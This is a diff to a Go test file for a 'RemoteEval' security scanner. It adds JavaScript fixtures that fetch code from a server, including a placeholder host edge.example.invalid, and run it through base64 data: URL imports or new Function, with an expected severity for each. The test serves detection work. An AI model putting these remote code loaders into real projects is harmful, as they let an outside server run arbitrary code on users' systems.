@@ -24,7 +24,18 @@ func TestRemoteEval(t *testing.T) {
 		return `var es = new EventSource("` + url + `"); es.onmessage = function (e) { var msg = JSON.parse(e.data);
   var mod = { exports: {} }; new Function("module", "exports", msg.code)(mod, mod.exports) };`
 	}
+	dataImport := func(url string) string {
+		return `const https = require("https"); const get = (u) => new Promise((ok) => https.get(u, (r) => { let d = ""; r.on("data", (c) => (d += c)); r.on("end", () => ok(JSON.parse(d))) }));
+async function load(src) { return import("data:text/javascript;base64," + Buffer.from(src).toString("base64")) }
+exports.sync = async (u) => { const next = await get(u || "` + url + `"); if (next.operators) await load(next.operators) };`
+	}
 	rt.Check(t, RemoteEval{}, []rt.Case{
+		// server-sent source run as a module through a data: URL, with or
+		// without a host of the file's own; a compiler importing the
+		// module it just built makes no request
+		{"data_import_named_host", map[string]string{"src/flags.js": dataImport("https://edge.example.invalid/v1/flags")}, finding.SeverityCritical},
+		{"data_import_given_host", map[string]string{"src/flags.js": dataImport("")}, finding.SeverityHigh},
+		{"data_import_compiler", map[string]string{"src/compile.js": `exports.run = async (code) => import("data:text/javascript;base64," + Buffer.from(transform(code)).toString("base64"))`}, finding.SeverityNone},
 		// a dev server's hot reload runs what the page's own server sends;
 		// the same client pointed at a host of its own
 		{"hot_reload_own_origin", map[string]string{"client/hmr.js": hmr("/__hmr")}, finding.SeverityNone},
